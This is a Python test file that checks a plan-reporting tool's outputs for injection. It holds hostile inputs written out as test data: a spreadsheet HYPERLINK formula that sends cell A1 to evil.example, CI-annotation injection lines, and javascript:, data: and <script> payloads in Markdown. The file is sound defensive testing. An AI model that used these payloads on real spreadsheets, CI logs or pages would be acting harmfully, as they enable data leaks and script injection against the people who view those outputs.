"""Text of the plan is data in every output: terminals, XML, spreadsheets, CI logs, Markdown.

Classes of cases, each generated rather than picked: every control character (and the other
characters XML cannot hold) in a title, a key and a Markdown text, through every command that
prints; chart labels that TeX would read; every first character that makes a spreadsheet run a
cell, in every text column; every character the GitHub Actions toolkit escapes, in every part of
a finding; and Markdown built by Hypothesis from the constructs that smuggle images and links,
where the Markdown output must show exactly the links and images the HTML output shows.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.adversarial.helpers import Worker, assert_clear
from tests.conftest import copy_base

# Every character a terminal obeys or XML cannot hold (YAML refuses lone surrogates itself).
CONTROLS = [chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))] + \
    ["\u2028", "\u2029", "\ufffe", "\uffff"]
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ufffe\uffff]")


def _yaml(text: str) -> str:
    """`text` as a YAML double-quoted scalar (every character as an escape YAML reads)."""
    return '"' + "".join(f"\\u{ord(c):04x}" if not c.isalnum() else c for c in text) + '"'


def _plan(root: Path, *, title: str = "Termine", summary: str = "Termine online buchen.",
          key: str | None = None) -> Path:
    copy_base(root)
    path = root / "measures" / "M-001-termine.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: Online-Terminvergabe", f"title: {_yaml(title)}")
    text = text.replace("summary: Termine online buchen.", f"summary: {_yaml(summary)}")
    if key is not None:
        text += f"{_yaml(key)}: 1\n"
    path.write_text(text, encoding="utf-8")
    return root


def _clean(text: str, *, lines: bool) -> bool:
    """No raw control character (newline and tab only where the output has lines of text)."""
    found = RAW.search(text.replace("\t", "").replace("\n", "") if lines else text)
    return found is None


TERMINAL = [("list",), ("list", "--format", "csv"), ("list", "--format", "json"),
            ("show", "M-001"), ("show", "M-001", "--format", "json"),
            ("report", "--half", "2021-H1"), ("masterplan",), ("export", "--public")]
FINDINGS = [("validate",), ("validate", "--format", "github"), ("validate", "--format", "json"),
            ("validate", "--format", "gitlab"), ("report", "--half", "2021-H1")]


@pytest.mark.parametrize("char", CONTROLS, ids=[f"U+{ord(c):04X}" for c in CONTROLS])
def test_a_control_character_is_shown_escaped_in_every_terminal_output(
        worker: Worker, tmp_path: Path, char: str) -> None:
    valid = _plan(tmp_path / "valid", title=f"A{char}B", summary=f"Text{char}mehr")
    for args in TERMINAL:
        run = worker.run(*args, "--root", valid, cwd=valid)
        assert_clear(run, 0)
        assert _clean(run.stdout, lines=True) and _clean(run.stderr, lines=False), run
    invalid = _plan(tmp_path / "invalid", key=f"k{char}\n::notice::x")
    for args in FINDINGS:
        run = worker.run(*args, "--root", invalid, cwd=invalid)
        assert_clear(run, 1)
        assert _clean(run.stdout, lines=True) and _clean(run.stderr, lines=True), run
        # No line of output can come from the file: every line is dotool's own.
        assert not any(line.startswith("::notice") for line in run.stdout.splitlines()), run
        if args[-1] == "github":
            assert all(line.startswith(("::error ", "::warning ", "::notice "))
                       for line in run.stdout.splitlines()), run


def _xml_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n) for n in archive.namelist() if n.endswith(".xml")}


@pytest.fixture(scope="module")
def every_control(worker: Worker, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A plan with every control character in a measure's title, summary and a field title."""
    root = _plan(tmp_path_factory.mktemp("controls") / "plan", title="T" + "".join(CONTROLS),
                 summary="S" + "".join(CONTROLS))
    masterplan = root / "masterplan" / "masterplan.yaml"
    masterplan.write_text(masterplan.read_text(encoding="utf-8").replace(
        "title: Digitales Rathaus", f"title: {_yaml('Rathaus ' + ''.join(CONTROLS))}"),
        encoding="utf-8")
    assert_clear(worker.run("validate", "--root", root, cwd=root), 0)
    return root


@pytest.mark.parametrize("command", ["report", "masterplan"])
@pytest.mark.parametrize("fmt", ["docx", "html", "md"])
def test_documents_hold_no_character_xml_cannot(worker: Worker, every_control: Path,
                                                tmp_path: Path, command: str, fmt: str) -> None:
    out = tmp_path / f"out.{fmt}"
    args = ("report", "--half", "2021-H1") if command == "report" else ("masterplan",)
    assert_clear(worker.run(*args, "-o", out, "--root", every_control, cwd=every_control), 0)
    if fmt == "docx":
        for name, data in _xml_parts(out).items():
            ElementTree.fromstring(data)  # well-formed XML: a control character would break it
            assert _clean(data.decode("utf-8"), lines=True), name
    else:
        text = out.read_text(encoding="utf-8")
        assert _clean(text, lines=True)
        assert "\\x1b" in text  # shown, not dropped


def test_a_title_longer_than_word_allows_is_cut_in_the_docx_properties(
        worker: Worker, tmp_path: Path) -> None:
    from dotool.model.base import MAX_LINE

    root = copy_base(tmp_path / "plan")
    masterplan = root / "masterplan" / "masterplan.yaml"
    for length in (254, 255, 256, MAX_LINE):
        title = ("Masterplan der Digitalisierung " * 20)[:length].strip() or "x"
        masterplan.write_text(re.sub(r"(?m)^title: .*$", f"title: {json.dumps(title)}",
                                     masterplan.read_text(encoding="utf-8"), count=1),
                              encoding="utf-8")
        out = tmp_path / f"m{length}.docx"
        assert_clear(worker.run("masterplan", "-o", out, "--root", root, cwd=root), 0)
        core = ElementTree.fromstring(_xml_parts(out)["docProps/core.xml"])
        shown = next(e.text for e in core.iter() if e.tag.endswith("}title")) or ""
        assert len(shown) <= 255 and shown.rstrip("…") in title


LABELS = ["$x$", "$\\undefinedx$", "$" + "{" * 140 + "x" + "}" * 140 + "$", "$\\frac{a}{b}$",
          "x^2_3", "$$", "\\$", "50 % $ 3", "$a$b$c$", "\\textbf{x}", "$\\sqrt{$"]


@pytest.mark.parametrize("label", LABELS)
def test_a_chart_label_is_never_math(worker: Worker, tmp_path: Path, label: str) -> None:
    root = _plan(tmp_path / "plan", title=f"M {label}")
    masterplan = root / "masterplan" / "masterplan.yaml"
    masterplan.write_text(masterplan.read_text(encoding="utf-8").replace(
        "title: Digitales Rathaus", f"title: {_yaml('F ' + label)}"), encoding="utf-8")
    for args in (("masterplan", "-o", tmp_path / "m.html"),
                 ("report", "--half", "2021-H1", "-o", tmp_path / "r.html")):
        assert_clear(worker.run(*args, "--root", root, cwd=root), 0)
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    shown = label if len(label) < 58 else label[:57]
    assert shown.replace("&", "&amp;").replace("<", "&lt;")[:20] in page


FORMULAS = ["=", "+", "-", "@", "\t", "\r", "\0"]
COLUMNS = {  # a text the CSV writes, and how to put it into the measure file
    "title": lambda v: ("title: Online-Terminvergabe", f"title: {_yaml(v)}"),
    "lead": lambda v: ("lead: Fachdienst Bürgerservice", f"lead: {_yaml(v)}"),
    "summary": lambda v: ("summary: Termine online buchen.", f"summary: {_yaml(v)}"),
    "text": lambda v: ("text: In Betrieb.", f"text: {_yaml(v)}"),
    "participants": lambda v: ("lead: Fachdienst Bürgerservice",
                               f"lead: Fachdienst Bürgerservice\nparticipants: [{_yaml(v)}]"),
}


@pytest.mark.parametrize("first", FORMULAS, ids=[f"U+{ord(c):04X}" for c in FORMULAS])
@pytest.mark.parametrize("column", sorted(COLUMNS))
def test_no_csv_cell_runs_as_a_formula(worker: Worker, tmp_path: Path, first: str,
                                       column: str) -> None:
    root = copy_base(tmp_path / "plan")
    value = f"{first}HYPERLINK(\"http://evil.example/?\"&A1;\"klick\")"
    path = root / "measures" / "M-001-termine.yaml"
    old, new = COLUMNS[column](value)
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
    out = tmp_path / "csv"
    assert_clear(worker.run("export", "--format", "csv", "-o", out, "--root", root, cwd=root),
                 0)
    listing = worker.run("list", "--format", "csv", "--root", root, cwd=root)
    assert_clear(listing, 0)
    tables = [(out / "measures.csv").read_text(encoding="utf-8"),
              (out / "updates.csv").read_text(encoding="utf-8"), listing.stdout]
    seen = False
    for table in tables:
        for row in csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""),
                              delimiter=";"):  # dotool's one CSV dialect (docs/open-data.md)
            for cell in row:
                assert not cell.startswith(tuple(FORMULAS)), (column, cell)
                seen = seen or "HYPERLINK" in cell
    assert seen, f"{column}: the text is missing from every table"


# --- Markdown: the same links and images as HTML, whatever the syntax ------------------------

_PIECES = st.sampled_from([
    "![r](http://evil.example/r.png)", "![ref][r]", "![ref][]", "![r]", "[r]: http://evil.example/x.png",
    "[r]: <http://evil.example/y.png> 'title'", "![q](http://evil.example/q.png 'single')",
    "![q](<http://evil.example/a b.png> \"t\")", "![a [b] c](http://evil.example/n.png)",
    "![a ![b](http://evil.example/in.png)](http://evil.example/out.png)",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox)", "[x](data:text/html,<b>x</b>)", "![d](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>", "<http://ok.example/>", "[ok](https://ok.example/page)",
    "[ok](relative/page.html)", "![local](img/ok.png)", "\\![esc](http://evil.example/e.png)",
    "`![code](http://evil.example/c.png)`", "<img src=http://evil.example/i.png>",
    "<script>alert(1)</script>", "*", "_", "[", "]", "(", ")", "!", "\n", "\n\n", "> ", "- ",
    "1. ", "    ", "#", "&", "&amp;", "\\", "<", ">", "|", "~", "text"])


def _links(html: str) -> tuple[list[str], int]:
    """The link targets of an HTML fragment and how many images it shows."""
    hrefs = re.findall(r'<a href="([^"]*)"', html)
    images = len(re.findall(r"<img |<svg class=\"md-image\"", html))
    return sorted(hrefs), images


@settings(max_examples=300, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, min_size=1, max_size=14).map("".join))
def test_markdown_output_shows_what_html_shows(text: str) -> None:
    from markdown_it import MarkdownIt

    from dotool.render.markdown import Images, to_html, to_markdown
    from dotool.store.assets import Image
    from tests.images import png

    def resolve(path: str) -> Image | str:
        data = png(4, 2)
        return Image(path, data, "image/png", "png", 4, 2, "d" * 20) if path == "img/ok.png" \
            else "is not there"

    html = str(to_html(text, Images(resolve, "files")))
    markdown = to_markdown(text, Images(resolve, "copy"))
    # A Markdown viewer with raw HTML on (as GitHub's is): what the Markdown output becomes.
    viewed = MarkdownIt("commonmark", {"html": True}).render(markdown)
    for page in (html, viewed):  # as text they may stay; as markup, never
        assert not re.search(r"<script|(href|src)=\"\s*(javascript|vbscript|data:text)", page,
                             re.IGNORECASE), page
        assert not re.search(r"<img[^>]+src=\"(?!assets/)", page), page
    hrefs, images = _links(html)
    viewed_hrefs, viewed_images = _links(viewed)
    assert viewed_hrefs == hrefs, (text, markdown)
    assert viewed_images == images, (text, markdown)
